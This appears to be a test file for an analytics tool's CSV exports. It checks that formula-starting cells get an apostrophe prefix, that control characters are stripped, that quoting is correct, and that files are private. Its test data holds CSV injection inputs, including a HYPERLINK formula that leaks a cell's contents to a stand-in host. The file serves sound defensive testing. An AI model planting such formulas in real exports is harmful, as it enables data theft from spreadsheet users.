/**
 * CSV exports opened by a real CSV parser (csv-parse): ids and values that a spreadsheet would
 * run as a formula read back prefixed with `'`, control characters are gone, quotes, commas and
 * line breaks survive as data, and typed numbers stay numbers. Both CSV writers are checked:
 * the scheduled export (exportDay) and the API's download (DuckDbStore.exportSessions). The
 * files are private (0600, site folder 0700).
 * Contracts: OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection):
 * cells starting with = + - @ TAB or CR are prefixed with ' and quoted; RFC 4180 §2 for quoting
 * (fields with commas, quotes or line breaks in double quotes, quotes doubled).
 */
import assert from "node:assert/strict";
import { readFileSync, statSync } from "node:fs";
import { dirname, join } from "node:path";
import { after, describe, test } from "node:test";
import { Engine, type Event } from "@intently/engine";
import { DAY_MS, SessionRecorder } from "@intently/store";
import { parse } from "csv-parse/sync";
import { exportDay } from "../src/index.ts";
import { openStore, SITE, tempDir } from "./support/helpers.ts";
import { UA } from "./support/sessions.ts";

const DAY = "2026-06-01";
const T0 = Date.parse(`${DAY}T10:00:00Z`);

/** Hostile text, and the cell each must read back as. */
const CASES: [raw: string, cell: string][] = [
  ['=HYPERLINK("http://evil.test/?x="&A1,"open")', `'=HYPERLINK("http://evil.test/?x="&A1,"open")`],
  ["+1", "'+1"],
  ["-2+3", "'-2+3"],
  ["-3.5", "'-3.5"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\tx", "'\tx"],
  ["\rx", "'\rx"],
  ["a\u0000b", "ab"],
  ["\u0000=1", "'=1"],
  ["bell\u0007del\u007fnel\u0085", "belldelnel"],
  ['"quoted"', '"quoted"'],
  ["a,b", "a,b"],
  ["line\nbreak", "line\nbreak"],
  ["plain", "plain"],
];

function record(store: Awaited<ReturnType<typeof openStore>>, raw: string, i: number) {
  const engine = new Engine();
  const rec = new SessionRecorder(store);
  const t = T0 + i * 60_000;
  const url = `https://shop.test/?utm_source=news&utm_campaign=${encodeURIComponent(raw)}`;
  const ref = { site: SITE, visitor: raw, session: raw, context: { ua: UA } };
  const events = [
    { type: "page_view", t, page: { url, type: "home" } },
    { type: "page_view", t: t + 5_000, page: { url: "https://shop.test/c/1", type: "category" } },
  ] as Event[];
  for (const e of events) rec.event(e, engine.process(ref, e));
  rec.advanced({ updates: [], ended: [engine.end(SITE, raw)!] }, t + 10_000);
  rec.flush();
}

/** Every row of the file, parsed as CSV with its header. */
function rowsOf(path: string): Record<string, string>[] {
  const text = readFileSync(path, "utf8");
  assert.ok(!text.includes("\u0000"), "no NUL byte in the file");
  return parse(text, { columns: true, relax_quotes: false }) as Record<string, string>[];
}

function checkCells(rows: Record<string, string>[], columns: string[]) {
  assert.equal(rows.length, CASES.length);
  for (const [raw, cell] of CASES) {
    const row = rows.find((r) => r.session === cell);
    assert.ok(
      row,
      `a row whose session reads back as ${JSON.stringify(cell)} (${JSON.stringify(raw)})`,
    );
    for (const c of columns) assert.equal(row[c], cell, `${c} of ${JSON.stringify(raw)}`);
  }
  for (const row of rows) {
    for (const [k, v] of Object.entries(row)) {
      assert.doesNotMatch(v, /^[=+\-@\t\r]/, `${k} = ${JSON.stringify(v)} starts a formula`);
      const control = [...v].find((ch) => /\p{Cc}/u.test(ch) && !"\t\n\r".includes(ch));
      assert.equal(control, undefined, `${k}: control character in ${JSON.stringify(v)}`);
    }
  }
}

describe("CSV exports are safe to open in a spreadsheet", async () => {
  const tmp = tempDir();
  const store = await openStore();
  after(async () => {
    await store.close();
    tmp.cleanup();
  });
  for (const [i, [raw]] of CASES.entries()) record(store, raw, i);

  test("the scheduled export (exportDay)", async () => {
    const r = await exportDay(store, SITE, DAY, tmp.dir, "csv");
    if (process.platform !== "win32") {
      assert.equal(statSync(r.path).mode & 0o777, 0o600, "the file is the owner's only");
      assert.equal(statSync(dirname(r.path)).mode & 0o777, 0o700, "and its site folder");
    }
    const rows = rowsOf(r.path);
    checkCells(rows, ["session", "visitor", "campaign"]);
    // Typed numbers are written as numbers, never prefixed.
    for (const row of rows) {
      assert.match(row.revenue!, /^-?\d+(\.\d+)?$/);
      assert.match(row.xc_final!, /^-?\d+(\.\d+)?(e-?\d+)?$/);
    }
  });

  test("the API's download (store.exports, download layout)", async () => {
    const path = join(tmp.dir, "download.csv");
    const [from, to] = [T0 - DAY_MS, T0 + DAY_MS];
    await store.exports.write({ site: SITE, from, to, format: "csv", layout: "download", path });
    const rows = rowsOf(path);
    checkCells(rows, ["session", "visitor", "campaign"]);
    for (const row of rows) assert.match(row.revenue!, /^-?\d+(\.\d+)?$/);
  });

  test("a negative typed number stays a number; the same text is escaped", async () => {
    const path = join(tmp.dir, "numbers.csv");
    const { copyTo } = await import("@intently/store");
    await copyTo(store.db, "SELECT -3.5 AS n, '-3.5' AS s, 42 AS i", {}, path, "csv");
    assert.deepEqual(rowsOf(path), [{ n: "-3.5", s: "'-3.5", i: "42" }]);
  });
});
